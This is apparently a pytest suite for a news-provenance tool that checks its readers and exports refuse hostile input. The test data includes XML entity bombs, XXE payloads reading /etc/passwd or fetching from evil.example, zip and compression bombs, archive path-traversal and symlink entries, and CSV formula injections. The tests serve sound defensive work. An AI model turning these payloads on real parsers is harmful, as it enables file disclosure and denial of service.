"""Threats to readers, reports and results, one small test each (domain §7.2); those of one room stand in that room's tests."""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import re
import socket
import subprocess
import sys
import tarfile
import time
import zipfile
from pathlib import Path

import html5lib
import pytest
import zstandard
from readers import wire_samples as samples
from readers.wire_samples import FIRST, SAMPLES, SECOND
from test_html_report import ATTRIBUTES, TAGS, VECTORS

import provenance as pv
from provenance import exporters, readers
from provenance.claim.review import Decision, ReviewStore
from provenance.config import Config, ReadConfig
from provenance.errors import ReadError
from provenance.records import Document

OURS = [item.name for item in exporters.formats()]


def read(tmp_path: Path, data: bytes, name: str = "a.xml", **settings: object) -> list[Document | ReadError]:
    path = tmp_path / name
    path.write_bytes(data)
    return list(readers.read(path, role="wire", config=ReadConfig(**settings)))


def refused(found: list[Document | ReadError]) -> str:
    (error,) = found
    assert isinstance(error, ReadError), error
    return error.reason


# --- XML -------------------------------------------------------------------------------------------------------------------------

NITF = samples.NITF % ""
LAUGHS = '<!DOCTYPE nitf [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
XML_ATTACKS = {
    "billion laughs": LAUGHS + NITF.replace(FIRST, "&c;"),
    "quadratic": f'<!DOCTYPE nitf [<!ENTITY a "{"x" * 50_000}">]>' + NITF.replace(FIRST, "&a;" * 5_000),
    "in an attribute": LAUGHS + NITF.replace('holder="Agence', 'holder="&c;'),
    "external entity": '<!DOCTYPE nitf [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + NITF.replace(FIRST, "&a;"),
    "parameter entity": '<!DOCTYPE nitf [<!ENTITY % a SYSTEM "file:///etc/passwd"> %a;]>' + NITF,
    "parameter entity of the net": '<!DOCTYPE nitf [<!ENTITY % a SYSTEM "http://evil.example/x"> %a;]>' + NITF,
    "XInclude": NITF.replace(FIRST, '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'),
    "too deep": NITF.replace(FIRST, "<b>" * 5_000 + "</b>" * 5_000),
}  # fmt: skip


@pytest.mark.parametrize("name", XML_ATTACKS)
def test_xml_that_attacks_is_refused_with_format_and_reason(tmp_path: Path, name: str) -> None:
    reason = refused(read(tmp_path, XML_ATTACKS[name].encode(), "a.nitf"))
    assert re.match(
        "NITF: (?:declares the entity|asks to include another file|is not well-formed XML)", reason
    )
    assert "root:" not in reason


@pytest.mark.parametrize("encoding", ["utf-16", "utf-32", "utf-7"])
def test_an_encoding_hides_no_entity(tmp_path: Path, encoding: str) -> None:
    text = f'<?xml version="1.0" encoding="{encoding}"?>' + XML_ATTACKS["external entity"]
    for item in read(tmp_path, text.encode(encoding), "a.nitf"):
        assert "root:" not in str(getattr(item, "text", ""))
        assert isinstance(item, ReadError)


def test_an_external_dtd_and_a_style_sheet_are_not_read(tmp_path: Path) -> None:
    head = '<?xml version="1.0"?><?xml-stylesheet href="file:///etc/passwd"?><!DOCTYPE nitf SYSTEM "http://evil.example/x.dtd">'
    (found,) = read(tmp_path, (head + NITF).encode())
    assert isinstance(found, Document)


def test_a_feed_with_entities_is_refused(tmp_path: Path) -> None:
    text = LAUGHS.replace("nitf", "rss") + samples.RSS.replace(FIRST, "&c;")
    assert "declares an entity" in refused(read(tmp_path, text.encode()))


# --- files in files --------------------------------------------------------------------------------------------------------------


def zipped(members: dict[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as file:
        for name, data in members.items():
            file.writestr(name, data)
    return stream.getvalue()


def tarred(members: dict[str, bytes], *, kind: bytes = tarfile.REGTYPE) -> bytes:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as file:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.type, info.size, info.linkname = (
                kind,
                len(data) if kind == tarfile.REGTYPE else 0,
                "/etc/passwd",
            )
            file.addfile(info, io.BytesIO(data))
    return stream.getvalue()


GOOD = {f"feed/{name}.dat": sample.data for name, sample in SAMPLES.items()}


@pytest.mark.parametrize("pack", [gzip.compress, bz2.compress, lzma.compress, zstandard.compress, bytes])
@pytest.mark.parametrize("bundle", [zipped, tarred])
def test_every_format_is_read_out_of_every_archive(tmp_path: Path, bundle, pack) -> None:
    found = read(tmp_path, pack(bundle(GOOD)), "feeds.bin")
    assert [item for item in found if isinstance(item, ReadError)] == []
    assert {str(item.source) for item in found if isinstance(item, Document)} == {
        f"feeds.bin/{name}" for name in GOOD
    }


def test_a_compressed_file_in_an_archive_is_read(tmp_path: Path) -> None:
    (found,) = read(tmp_path, tarred({"a.xml.gz": gzip.compress(SAMPLES["nitf"].data)}))
    assert isinstance(found, Document)


@pytest.mark.parametrize("pack", [gzip.compress, bz2.compress, lzma.compress, zstandard.compress])
def test_a_bomb_is_refused_before_it_fills_the_memory(tmp_path: Path, pack) -> None:
    assert "unpacks to more than" in refused(read(tmp_path, pack(b"a" * 40_000_000), "a.txt"))


def test_a_bomb_in_a_zip_is_refused_and_the_others_are_read(tmp_path: Path) -> None:
    found = read(tmp_path, zipped({"bomb.txt": b"a" * 40_000_000, "good.xml": SAMPLES["nitf"].data}))
    assert [type(item).__name__ for item in found] == ["ReadError", "Document"]
    assert "zip member 'bomb.txt': unpacks to more than 200 times its size" in str(found[0])


def test_a_zip_that_lies_about_its_sizes_is_refused(tmp_path: Path) -> None:
    data = zipped({"a.txt": b"harbour " * 500_000})
    size = (4_000_000).to_bytes(4, "little")
    found = read(tmp_path, data.replace(size, (40).to_bytes(4, "little")))
    assert all(isinstance(item, ReadError) or len(item.text) <= 40 for item in found)


def test_many_members_and_many_bytes_have_a_limit(tmp_path: Path) -> None:
    many = read(tmp_path, zipped({f"{number}.txt": FIRST.encode() for number in range(5)}), max_members=3)
    assert [isinstance(item, Document) for item in many] == [True, True, True, False]
    assert "holds more than 3 files" in str(many[-1])
    large = read(tmp_path, tarred({f"{number}.txt": FIRST.encode() for number in range(5)}), max_unpacked=300)
    assert "unpacks to more than 300 bytes" in str(large[-1])


@pytest.mark.parametrize(
    "name", ["../../evil.txt", "/etc/evil.txt", "a/../../b.txt", "C:\\evil.txt", "..\\evil.txt"]
)
@pytest.mark.parametrize("bundle", [zipped, tarred])
def test_a_path_that_leads_out_is_refused(tmp_path: Path, bundle, name: str) -> None:
    assert "its path leads out of the archive: refused" in refused(
        read(tmp_path, bundle({name: FIRST.encode()}))
    )


@pytest.mark.parametrize("kind", [tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.CHRTYPE, tarfile.FIFOTYPE])
def test_links_and_devices_are_refused(tmp_path: Path, kind: bytes) -> None:
    assert "is a link or a device: refused" in refused(read(tmp_path, tarred({"a.txt": b""}, kind=kind)))


def test_a_symlink_in_a_zip_is_refused(tmp_path: Path) -> None:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as file:
        info = zipfile.ZipInfo("a.txt")
        info.external_attr = 0o120777 << 16
        file.writestr(info, "/etc/passwd")
    assert "is a link or a device: refused" in refused(read(tmp_path, stream.getvalue()))


def test_an_archive_within_an_archive_is_refused(tmp_path: Path) -> None:
    assert "is an archive within an archive" in refused(
        read(tmp_path, zipped({"b.zip": zipped({"a.txt": b"x"})}))
    )


@pytest.mark.parametrize("data", [zipped(GOOD)[:-200], tarred(GOOD)[:3_000], zipped(GOOD)[:2_000]])
def test_a_damaged_archive_says_so(tmp_path: Path, data: bytes) -> None:
    found = read(tmp_path, data)
    assert isinstance(found[-1], ReadError)
    assert re.search("damaged|cut off|is not", found[-1].reason)


def test_a_page_in_a_crawl_that_unpacks_without_end_is_refused(tmp_path: Path) -> None:
    body = gzip.compress(b"<html><body><p>" + b"a" * 30_000_000)
    inner = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Encoding: gzip\r\n\r\n" + body
    head = f"WARC/1.0\r\nWARC-Type: response\r\nWARC-Record-ID: <urn:1>\r\nWARC-Target-URI: https://x.example/\r\nContent-Type: application/http; msgtype=response\r\nContent-Length: {len(inner)}\r\n\r\n"
    found = read(tmp_path, head.encode() + inner + b"\r\n\r\n" + samples.warc(samples.PAGE), "a.warc")
    assert [type(item).__name__ for item in found] == ["Document", "ReadError"]
    assert "WARC: record 1: unpacks to more than 20,000,000 bytes" in str(found[1])


def test_a_record_of_a_crawl_without_its_address_is_named(tmp_path: Path) -> None:
    data = samples.warc(samples.PAGE).replace(b"WARC-Target-URI", b"WARC-Other")
    for item in read(tmp_path, data, "a.warc"):
        assert isinstance(item, Document) or "WARC: " in item.reason


# --- script, marks and formulas --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("vector", VECTORS, ids=range(len(VECTORS)))
def test_script_in_a_feed_is_only_text_in_the_report(tmp_path: Path, vector: str) -> None:
    """Every field of an item that reaches a page: headline, byline, credit, dateline, notes, agency, id, body."""
    item = samples.NINJS1 | {
        "uri": vector, "headline": vector, "byline": vector, "ednote": vector, "dateline": vector, "slugline": vector, "creditline": vector,
        "infosource": [{"name": vector}], "body_text": f"{FIRST}\n\n{vector}\n\n{SECOND}", "body_html": "", "language": vector,
    }  # fmt: skip
    path = tmp_path / "a.json"
    path.write_text(json.dumps(item), "utf-8")
    result = pv.annotate(pv.read(path))
    stream = io.BytesIO()
    exporters.export(list(result), stream, output_format="html", config=Config())
    for element in html5lib.parse(stream.getvalue(), treebuilder="etree").iter():
        if isinstance(element.tag, str):
            assert element.tag.rpartition("}")[2] in TAGS
            assert set(element.attrib) <= set(ATTRIBUTES)


@pytest.mark.parametrize("name", ["A\u0420", "\u0410FP", "R\u0435uters", "A\u200bFP\u202e"])
def test_letters_that_imitate_an_agency_are_no_plain_credit(name: str) -> None:
    (credit, *_) = pv.annotate(
        Document("a", f"Ferry aground\n\nBy {name}\n\n{FIRST}\n\n{SECOND}")
    ).credits or (None,)
    assert credit is None or credit.certainty != "high" or credit.note


def test_what_cannot_be_seen_is_read_through_and_stays_in_the_text() -> None:
    hidden = FIRST.replace("harbour", "har\u200bbo\u00adur")
    archive = pv.Archive.build(
        [Document("w", f"{FIRST} {SECOND}", agency="AFP", published="2031-03-04T09:00:00Z")]
    )
    found = pv.annotate(
        Document("a", f"Ferry\n\n{hidden} {SECOND}", published="2031-03-04T12:00:00Z"), archive
    )
    assert hidden in found.document.text
    assert "wire" in {item.verdict.origin for item in found.findings}


def test_half_characters_within_words_are_compared(tmp_path: Path) -> None:
    """Found by the fuzz run: a stemmer cannot hold a lone surrogate."""
    archive = pv.Archive.build([Document("w", f"{FIRST} {SECOND}", agency="AFP")])
    broken = FIRST.replace("passengers", "passeng\udcff\udcffers").replace("Tuesday", "Tues\ud800day")
    found = pv.annotate(Document("a", f"Ferry\udcff\udcff\x00\n\nBy AFP\n\n{broken} {SECOND}"), archive)
    assert "wire" in {item.verdict.origin for item in found.findings}


def test_a_formula_behind_a_carriage_return_starts_no_cell() -> None:
    article = Document("a\r=HYPERLINK(1)", f"=cmd()\n\n{FIRST}", title="+1", outlet="@x")
    stream = io.BytesIO()
    exporters.export([pv.annotate(article)], stream, output_format="csv", spreadsheet=True)
    import csv

    rows = list(csv.reader(io.StringIO(stream.getvalue().decode(), newline="")))
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert len({len(row) for row in rows}) == 1
    outside = re.sub(r'"[^"]*"', "", stream.getvalue().decode())
    assert "\r" not in outside


# --- time and memory -------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("unit", "few", "many"),
    [
        ("By AFP\n", 1_500, 6_000),
        (f"By AFP\n{FIRST}\n", 500, 2_000),
        ("Source: AFP and Reuters and\n", 1_000, 4_000),
    ],
)
def test_a_page_of_credits_costs_linear_time(unit: str, few: int, many: int) -> None:
    """Steps of the interpreter, not seconds: four times the lines take about four times the calls."""

    def calls(count: int) -> int:
        total = 0

        def counted(frame: object, event: str, argument: object) -> None:
            nonlocal total
            total += event in ("call", "c_call")

        document = Document("a", unit * count)
        sys.setprofile(counted)
        try:
            pv.annotate(document)
        finally:
            sys.setprofile(None)
        return total

    calls(10)
    assert calls(many) < 6 * calls(few)


PROLOGUES = [
    " " * 30_000,
    "\n \n" * 10_000,
    "<!-- -->" * 5_000,
    "<?a?>" * 8_000,
    "<!--" + "-" * 30_000,
    '{"' + '"' * 30_000,
]


@pytest.mark.parametrize("head", PROLOGUES, ids=range(len(PROLOGUES)))
def test_no_beginning_of_a_file_stalls_its_recognition(tmp_path: Path, head: str) -> None:
    (tmp_path / "a.dat").write_text(f"{head}x <a")
    code = "import sys; from provenance import readers; list(readers.read(sys.argv[1]))"
    subprocess.run([sys.executable, "-c", code, tmp_path / "a.dat"], check=True, timeout=100)


def test_of_a_text_beyond_all_measure_the_beginning_is_read_and_it_is_said() -> None:
    config = Config().with_settings({"segments.max_text": 2_000})
    text = f"{FIRST}\n" * 100
    found = pv.annotate(Document("a", text), config=config)
    assert found.document.text == text
    assert [(item.segment.end, item.segment.kind, item.segment.rule) for item in found.findings][-1] == (
        len(text),
        "furniture",
        "too_many",
    )
    (note,) = [note.text for note in found.notes if note.code == "not_compared"]
    assert "characters after the first 1," in note


def test_a_word_of_a_million_letters_is_one_article(tmp_path: Path) -> None:
    found = pv.annotate(Document("a", "x" * 1_500_000))
    assert len(found.findings) == 2


def test_a_review_file_of_brackets_is_named_and_left_aside(tmp_path: Path) -> None:
    path = tmp_path / "review.jsonl"
    path.write_bytes(b"[" * 200_000 + b"\n")
    (problem,) = ReviewStore(path).problems
    assert "not a line of JSON" in problem


@pytest.mark.parametrize("name", ["json", "jsonl", "ninjs", "ap", "digitalwires"])
def test_json_of_brackets_is_named(tmp_path: Path, name: str) -> None:
    path = tmp_path / "a.json"
    path.write_bytes(b'{"uri":' * 100_000 + b"[" * 100_000)
    (found,) = readers.read(path, input_format=name)
    assert isinstance(found, ReadError)


def test_a_stale_kernel_takes_back_its_own_decision_only(tmp_path: Path) -> None:
    first, second = ReviewStore(tmp_path / "r.jsonl"), ReviewStore(tmp_path / "r.jsonl")
    first.decide(Decision("a", 0, 5, "W", "ada", "t1"))
    second.decide(Decision("a", 6, 9, "E", "ada", "t2"))
    undone = first.undo("ada", "t3")
    assert undone is not None
    assert undone.unit == ("a", 0, 5)
    assert [item.unit for item in ReviewStore(tmp_path / "r.jsonl").decisions()] == [("a", 6, 9)]


def test_what_failed_is_listed_for_programs(tmp_path: Path) -> None:
    (tmp_path / "good.xml").write_bytes(SAMPLES["nitf"].data)
    (tmp_path / "bad.xml").write_bytes(SAMPLES["nitf"].data[:-200])
    (tmp_path / "bad.exe").write_bytes(b"\x7fELF")
    command = [
        sys.executable,
        "-m",
        "provenance",
        "archive",
        "add",
        "good.xml",
        "bad.xml",
        "bad.exe",
        "--into",
        "a",
        "--errors",
        "e.jsonl",
    ]
    done = subprocess.run(command, cwd=tmp_path, capture_output=True, check=False)
    listed = [json.loads(line) for line in (tmp_path / "e.jsonl").read_text("utf-8").splitlines()]
    assert done.returncode == 1
    assert [(item["source"], item["format"]) for item in listed] == [("bad.xml", "nitf"), ("bad.exe", None)]
    assert listed[0]["line"]
    assert all(item["reason"] for item in listed)


# --- what goes out ---------------------------------------------------------------------------------------------------------------


def pair() -> list[Document]:
    return [
        Document("one", f"Ferry aground\n\nBy AFP\n\n{FIRST} {SECOND}", outlet="Post", published="2031-03-04T12:00:00Z"),
        Document("two", f"Ferry runs aground\n\n{FIRST} Nobody was hurt.", outlet="Gazette", published="2031-03-04T13:00:00Z"),
        Document("three", f"A ferry\n\n{SECOND} The mayor was not there.", outlet="Mail"),
    ]  # fmt: skip


def test_the_order_of_articles_changes_no_result() -> None:
    archive = pv.Archive.build(
        [Document("w", f"{FIRST} {SECOND}", agency="AFP", published="2031-03-04T09:00:00Z")]
    )
    for given in (None, archive):
        forth = {item.document.id: item for item in pv.annotate(pair(), given)}
        back = {item.document.id: item for item in pv.annotate(pair()[::-1], given)}
        assert forth == back


@pytest.mark.parametrize("name", OURS)
def test_no_output_tells_where_a_file_lay(tmp_path: Path, name: str) -> None:
    folder = tmp_path / "private-folder"
    folder.mkdir()
    path = folder / "a.xml"
    path.write_bytes(SAMPLES["newsmlg2"].data)
    result = pv.annotate(pv.read(path), pv.Archive.build(readers.read_list(path, role="wire")))
    stream = io.BytesIO()
    exporters.export(list(result), stream, output_format=name)
    assert b"private-folder" not in stream.getvalue()


def test_nothing_asks_the_network(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def asked(*arguments: object, **named: object) -> None:
        raise AssertionError("the network was asked")

    for name, sample in SAMPLES.items():
        (tmp_path / f"{name}.dat").write_bytes(sample.data)
    monkeypatch.setattr(socket.socket, "connect", asked)
    monkeypatch.setattr(socket, "getaddrinfo", asked)
    found = pv.annotate(readers.read_list(tmp_path, role="article"))
    for name in OURS:
        exporters.export(list(found), io.BytesIO(), output_format=name)


def test_no_output_tells_the_time(monkeypatch: pytest.MonkeyPatch) -> None:
    first = {name: _written(name) for name in OURS}
    monkeypatch.setattr(time, "time", lambda: 0.0)
    assert {name: _written(name) for name in OURS} == first


def _written(name: str) -> bytes:
    stream = io.BytesIO()
    exporters.export(list(pv.annotate(pair())), stream, output_format=name)
    return stream.getvalue()
